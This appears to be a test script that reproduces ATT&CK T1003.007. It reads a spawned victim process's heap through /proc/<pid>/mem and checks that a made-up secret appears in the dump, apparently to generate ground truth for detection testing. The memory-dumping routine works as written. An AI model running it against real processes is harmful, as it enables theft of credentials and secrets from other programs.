# SPDX-License-Identifier: Apache-2.0
"""ATT&CK T1003.007 in Python: finds the heap of a victim in its maps and copies it out of its mem file."""

import sys

from ground_truth import SECRET, act, readable_regions, victim

with victim("heap-owner") as process:
    pid = process.pid
    with act("dump_heap", pid, path=f"/proc/{pid}/mem", flags="O_RDONLY|O_CLOEXEC"):
        memory = open(f"/proc/{pid}/mem", "rb", buffering=0)
    dump = b""
    for start, end, name in readable_regions(pid):
        if name == "[heap]" or name == "":
            memory.seek(start)
            dump += memory.read(end - start)
    if SECRET not in dump:
        sys.exit("failed to find the made-up secret in the dump")
